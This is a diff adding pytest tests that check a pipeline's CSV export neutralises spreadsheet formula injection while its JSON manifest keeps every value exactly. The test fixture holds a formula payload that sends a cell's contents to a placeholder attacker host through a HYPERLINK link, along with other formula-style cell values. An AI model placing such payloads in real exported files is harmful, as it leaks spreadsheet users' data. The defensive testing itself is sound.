@@ -113,3 +113,47 @@ def test_an_export_failing_half_way_leaves_no_zip_and_no_temporary(tmp_path: Pat
     assert (result.code, result.err) == (1, "error: disk full\n") and len(written) == 3
     assert not dest.exists()
     assert list(dest.parent.iterdir()) == []
+
+
+HOSTILE_PROMPTS = [
+    {"id": "-p1", "title": '=HYPERLINK("http://evil.example/?x="&A1,"owl")', "scene": "+1+2", "mood": "-2+3",
+     "prompt": "@SUM(A1:A9) a red fox"},
+    {"id": "p2", "title": "\tTabbed title", "scene": "\rcarriage return", "mood": "calm", "prompt": "A teal lantern"},
+]
+
+
+def test_manifest_csv_neutralises_formula_cells_and_manifest_json_stays_exact(tmp_path: Path, engine) -> None:
+    """Cells a spreadsheet would run as formulas get a leading ' in the CSV (OWASP); the JSON keeps every byte."""
+    prompt_set = tmp_path / "hostile.json"
+    prompt_set.write_text(json.dumps({"prompts": HOSTILE_PROMPTS}), encoding="utf-8")
+    assert run_cli("run", prompt_set, "--output", tmp_path / "out", "--iterations", "1").code == 0
+    with session(engine) as s:
+        for it in s.exec(select(Iteration).where(Iteration.status == "ok")).all():
+            rate(s, it.id, "@ana", stars=4, decision="approved", note="=1+1 -- looks fine")
+        s.commit()
+    dest = tmp_path / "hostile.zip"
+    assert run_cli("export", "1", "--out", dest).code == 0
+    with zipfile.ZipFile(dest) as zf:
+        rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
+        exact = json.loads(zf.read("manifest.json"))["images"]
+        names = set(zf.namelist())
+    assert len(rows) == len(exact) == 2
+    for row, original, spec in zip(rows, exact, HOSTILE_PROMPTS, strict=True):
+        for column in ("title", "scene", "mood", "final_prompt", "reviewer", "note", "prompt_id", "file"):
+            value = original[column]
+            dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
+            assert row[column] == ("'" + value if dangerous else value), column
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
+        assert (original["title"], original["scene"], original["mood"]) == (spec["title"], spec["scene"], spec["mood"])
+        assert original["reviewer"] == "@ana" and original["note"] == "=1+1 -- looks fine"
+        assert original["file"] in names  # the JSON names the zip entry exactly
+    assert rows[0]["final_prompt"].startswith("'=HYPERLINK(") and rows[1]["title"] == "'\tTabbed title"
+    assert rows[0]["stars"] == "4" and rows[0]["iteration"] == "1"  # numbers stay numbers
+    assert rows[0]["'@ana: note"] == "'=1+1 -- looks fine"  # a column named after a reviewer is neutralised too
+
+
+def test_csv_safe_leaves_numbers_and_ordinary_text_alone() -> None:
+    from pipeline.review.export import csv_safe
+
+    assert [csv_safe(v) for v in (-1.5, 3, None, "a = b", " =x", "=x", "+", "-", "@", "\t", "\r", "")] == [
+        -1.5, 3, None, "a = b", " =x", "'=x", "'+", "'-", "'@", "'\t", "'\r", ""]
